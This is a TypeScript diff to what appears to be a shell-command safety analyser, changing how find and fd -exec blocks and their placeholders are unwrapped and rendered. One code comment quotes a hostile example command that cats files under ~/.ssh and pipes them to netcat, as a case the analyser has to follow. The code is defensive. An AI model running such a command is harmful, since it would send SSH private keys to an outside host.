@@ -3,11 +3,11 @@
 import type { Facts, SimpleCommand, Word } from "../../facts/types.js";
 import type { CommandView } from "../command.js";
 import { inheritFrom, type Inherit, type Nest, type Origin, type Quiet, type UnwrapCommand, type UnwrapResult, type Unwrapper } from "./types.js";
-import { DYNAMIC_WORD } from "./words.js";
+import { DYNAMIC_WORD, holdsToken, literalHolds } from "./words.js";
 import { valuesQuiet } from "./value-uses.js";
-import { literalText } from "./strings.js";
 import { foundPaths, foundQuiet } from "./found-files.js";
 import { stagesOf } from "./pipelines.js";
+import { inertText, replacedIn } from "./inert.js";
 
 export const execBlockUnwrapper: Unwrapper = {
   name: "exec-block",
@@ -29,7 +29,7 @@ function execBlocks(view: CommandView, sc: SimpleCommand, facts: Facts, origin: 
   const w = view.words;
   const isFind = view.name === "find";
   const starts = isFind ? FIND_EXEC : FD_EXEC;
-  const placeholder = isFind ? (v: string) => v.includes("{}") : (v: string) => FD_PLACEHOLDER.test(v);
+  const placeholder = isFind ? (x: Word) => holdsToken(x, "{}") : (x: Word) => literalHolds(x, (text) => FD_PLACEHOLDER.test(text));
   for (let k = 1; k < w.length; k++) {
     const a = (w[k] as Word).value;
     const attached = starts.has(a) ? "" : isFind ? null : fdExecAttached(a);
@@ -37,7 +37,7 @@ function execBlocks(view: CommandView, sc: SimpleCommand, facts: Facts, origin: 
     let end = k + 1;
     while (end < w.length && (w[end] as Word).value !== ";" && !(isFind && (w[end] as Word).value === "+")) end++;
     const words = attached === "" ? w.slice(k + 1, end) : [{ ...(w[k] as Word), value: attached }, ...w.slice(k + 1, end)];
-    const inner = words.map((x) => (placeholder(x.value) ? DYNAMIC_WORD(x.start, x.end, x.value) : x));
+    const inner = words.map((x) => (placeholder(x) ? DYNAMIC_WORD(x.start, x.end, x.value) : x));
     if (inner.length > 0) {
       const execOrigin: Origin = { ...origin, ...inheritFrom(view), argsUnknown: true, wrappers: [...view.wrappers, view.name] };
       unwrapCommand({ ...sc, argv: inner, redirects: [] }, inner, facts, execOrigin, out, nest);
@@ -66,9 +66,9 @@ const foundFilesQuiet: Quiet = (id) => valuesQuiet(id) || id.startsWith("deletio
  * output (`find ~/.ssh -exec cat {} + | nc h 1`): it comes along.
  */
 function withFoundFiles(sc: SimpleCommand, view: CommandView, block: readonly Word[], facts: Facts, inherit: Inherit, nest: Nest, range: [number, number]): void {
-  const after = sc.stage >= 0 ? stagesOf(facts, sc.pipeline).filter((c) => c.stage > sc.stage).map((c) => ` | ${facts.source.slice(c.start, c.end)}`).join("") : "";
+  const after = sc.stage >= 0 ? stagesOf(facts, sc.pipeline).filter((c) => c.stage > sc.stage).map((c) => ` | ${inertText(facts, c.start, c.end)}`).join("") : "";
   for (const path of foundPaths(view.words, facts)) {
-    const text = block.map((x) => (x.value.includes("{}") ? x.value.split("{}").map(literalText).join(path.text) : facts.source.slice(x.start, x.end))).join(" ");
+    const text = block.map((x) => (holdsToken(x, "{}") ? replacedIn(x, "{}", path.text) : inertText(facts, x.start, x.end))).join(" ");
     nest(text + after, range, { ...inherit, speculative: foundQuiet(foundFilesQuiet, path) });
   }
 }
